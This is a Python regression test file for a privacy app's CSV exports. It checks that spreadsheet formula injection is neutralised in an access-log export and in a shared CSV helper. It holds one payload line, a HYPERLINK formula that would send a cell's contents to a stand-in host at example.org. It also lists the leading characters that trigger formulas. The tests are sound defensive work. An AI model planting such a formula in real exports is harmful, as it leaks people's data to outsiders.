"""Issue 13: each attack a curious partner or administrator tried, as a regression test
named after it (`test_attack_...`). See docs/privacy.md for the threat model."""

import csv
import io

import pytest

from privacy import access_log
from privacy.models import AccessAction

from . import helpers

KEY = "1012AB-5-"
ADDRESS = {"postcode": "1012ab", "house_number": "5"}


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- 9. formula injection in exports -----------------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"klik")'


def test_attack_formula_injection_in_access_log_export(demo, client_for):
    signal = helpers.signal(house_number=5, by="anna")
    access_log.record(
        helpers.user("noor"),
        AccessAction.UPDATE,
        "signal",
        signal.pk,
        household_key=KEY,
        reason=FORMULA,
    )
    response = client_for("pim").get("/privacy/inzagelog/export.csv", ADDRESS)
    cells = [cell for row in csv_rows(response) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(FORMULA in cell for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_attack_formula_injection_every_dangerous_start_is_neutralised(start):
    from partners.csv_files import excel_csv

    text = excel_csv(["kolom"], [[f"{start}1+1", 5, -3]]).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == [f"'{start}1+1", "5", "-3"]
